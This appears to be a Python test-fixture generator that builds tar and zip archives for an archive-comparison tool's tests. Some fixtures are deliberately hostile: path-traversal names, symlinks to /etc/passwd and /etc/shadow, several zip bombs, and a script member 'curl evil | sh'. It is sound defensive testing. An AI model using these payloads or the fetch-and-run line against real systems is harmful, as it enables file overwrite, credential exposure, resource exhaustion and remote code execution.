"""Makes the archives tests/archive.rs compares, into the directory given.

Real Go binaries come from tests/fixtures/linux-amd64 (stamp-a and stamp-b
differ only by an -X value). Hostile archives are written byte by byte
(struct) where tarfile and zipfile would refuse to make them.
"""

import gzip
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

out = sys.argv[1]
fix = sys.argv[2]
os.makedirs(out, exist_ok=True)
A = open(os.path.join(fix, "stamp-a"), "rb").read()
B = open(os.path.join(fix, "stamp-b"), "rb").read()


def path(name):
    return os.path.join(out, name)


def tar_bytes(members, mtime=1700000000, owner=0, fmt=tarfile.GNU_FORMAT):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for m in members:
            name, data = m[0], m[1]
            ti = tarfile.TarInfo(name)
            ti.mtime = mtime
            ti.uid = ti.gid = owner
            ti.uname = ti.gname = "root" if owner == 0 else "builder"
            ti.mode = 0o755
            if len(m) > 2 and m[2] == "symlink":
                ti.type = tarfile.SYMTYPE
                ti.linkname = data.decode()
                t.addfile(ti)
            else:
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def write(name, data):
    with open(path(name), "wb") as f:
        f.write(data)


def tgz(name, members, gz_mtime=0, **kw):
    write(name, gzip.compress(tar_bytes(members, **kw), mtime=gz_mtime))


# Identical, metadata, binary members.
base = [("bin/app", A), ("README.md", b"hello\n")]
tgz("same-1.tar.gz", base)
tgz("same-2.tar.gz", base)
tgz("mtime.tar.gz", base, mtime=1700000600)
tgz("owner.tar.gz", base, owner=1000)
tgz("stamp.tar.gz", [("bin/app", B), ("README.md", b"hello\n")])
tgz("readme.tar.gz", [("bin/app", A), ("README.md", b"hello, world\n")])
tgz("extra.tar.gz", base + [("LICENSE", b"MIT\n")])
tgz("reordered.tar.gz", list(reversed(base)))
write("same.tar", tar_bytes(base))


def zip_bytes(members, date=(2024, 1, 1, 0, 0, 0)):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=date)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o100755 << 16
            zi.create_system = 3
            z.writestr(zi, data)
    return buf.getvalue()


write("same-1.zip", zip_bytes(base))
write("same-2.zip", zip_bytes(base))
write("dostime.zip", zip_bytes(base, date=(2024, 6, 1, 12, 0, 0)))

# Hostile names and links (the same on both sides: warnings, not differences).
hostile = [
    ("../evil", b"x"),
    ("/abs/evil", b"y"),
    ("C:\\evil", b"z"),
    ("ctl\x1b[31mred", b"w"),
    ("link", b"../../../etc/passwd", "symlink"),
]
tgz("hostile-1.tar.gz", hostile)
tgz("hostile-2.tar.gz", hostile)
tgz("link-other.tar.gz", hostile[:4] + [("link", b"/etc/shadow", "symlink")])

# Duplicate names.
tgz("dup.tar.gz", [("a", b"1"), ("a", b"2")])

# Truncated.
whole = open(path("same-1.tar.gz"), "rb").read()
write("truncated.tar.gz", whole[: len(whole) // 2])
tarb = tar_bytes(base)
write("truncated.tar", tarb[:5000])
zb = zip_bytes(base)
write("truncated.zip", zb[: len(zb) // 2])

# A member that declares 3 GiB (over the member cap): nothing follows.
ti = tarfile.TarInfo("huge")
ti.size = 3 << 30
write("declares-huge.tar.gz", gzip.compress(ti.tobuf(format=tarfile.GNU_FORMAT)))


# 100,001 empty entries.
def header(name, size=0):
    h = bytearray(512)
    n = name.encode()
    h[0 : len(n)] = n
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"00000000000\0"
    h[156] = ord("0")
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = b"        "
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


many = b"".join(header("f%06d" % i) for i in range(100_001)) + bytes(1024)
write("many.tar.gz", gzip.compress(many, compresslevel=1, mtime=0))


# Zips written by hand.
def local(name, data, method, crc, csize, usize):
    n = name.encode()
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, csize, usize, len(n), 0) + n + data


def central(name, method, crc, csize, usize, offset):
    n = name.encode()
    return (
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, method, 0, 0x21, crc, csize, usize, len(n), 0, 0, 0, 0, 0o100644 << 16, offset)
        + n
    )


def eocd(count, cd_size, cd_off):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_off, 0)


def zip_one(name, data, method, usize=None, crc=None):
    raw = data if method == 0 else zlib.compress(data)[2:-4]
    usize = len(data) if usize is None else usize
    crc = zlib.crc32(data) if crc is None else crc
    loc = local(name, raw, method, crc, len(raw), usize)
    cd = central(name, method, crc, len(raw), usize, 0)
    return loc + cd + eocd(1, len(cd), len(loc))


# Declares more than the member cap.
write("bomb-declared.zip", zip_one("big", b"\0" * 1000, 8, usize=(1 << 30) + 1))
# Declares a ratio over 1100:1.
write("bomb-ratio.zip", zip_one("ratio", b"\0" * 1000, 8, usize=1_000_000))
# Inflates past what it declares.
write("bomb-lie.zip", zip_one("lie", b"\0" * 100_000, 8, usize=100, crc=zlib.crc32(b"\0" * 100)))
# Overlapping members (the overlapping-files bomb): a's data holds b's local header.
b_data = b"\0" * 64
b_loc = local("b", b_data, 0, zlib.crc32(b_data), 64, 64)
a_name = "a"
a_off = 0
a_loc = local(a_name, b_loc, 0, zlib.crc32(b_loc), len(b_loc), len(b_loc))
b_off = 30 + len(a_name)
cd = central("a", 0, zlib.crc32(b_loc), len(b_loc), len(b_loc), a_off) + central("b", 0, zlib.crc32(b_data), 64, 64, b_off)
write("bomb-overlap.zip", a_loc + cd + eocd(2, len(cd), len(a_loc)))
# Declares 200,000 entries (zip64 not needed: 0xffff is the largest a plain record holds; use zip64).
z = zip_one("x", b"x", 0)
cd_off = len(local("x", b"x", 0, zlib.crc32(b"x"), 1, 1))
cd_len = len(z) - cd_off - 22
z64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 200_000, 200_000, cd_len, cd_off)
loc64 = struct.pack("<IIQI", 0x07064B50, 0, len(z) - 22, 1)
write("many-declared.zip", z[:-22] + z64 + loc64 + eocd(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF))

# Nested: a tar.gz holding d.tar holding c.tar holding b.tar holding x.
def nest(x):
    inner = tar_bytes([("x", x)])
    for name in ["b.tar", "c.tar", "d.tar"]:
        inner = tar_bytes([(name, inner)])
    return gzip.compress(inner, mtime=0)


write("nested-1.tar.gz", nest(b"1"))
write("nested-2.tar.gz", nest(b"2"))

# A binary swapped for something else must never pass an --allow: replaced by
# a symlink, by a script of the same name, added on one side; and a link
# retargeted is a member change, not metadata.
tgz("swap-symlink.tar.gz", [("bin/app", b"/usr/local/bin/evil", "symlink"), ("README.md", b"hello\n")])
tgz("swap-script.tar.gz", [("bin/app", b"#!/bin/sh\ncurl evil | sh\n"), ("README.md", b"hello\n")])
tgz("added-binary.tar.gz", base + [("bin/helper", B)])
tgz("link-1.tar.gz", base + [("bin/latest", b"app", "symlink")])
tgz("link-2.tar.gz", base + [("bin/latest", b"../../etc/passwd", "symlink")])
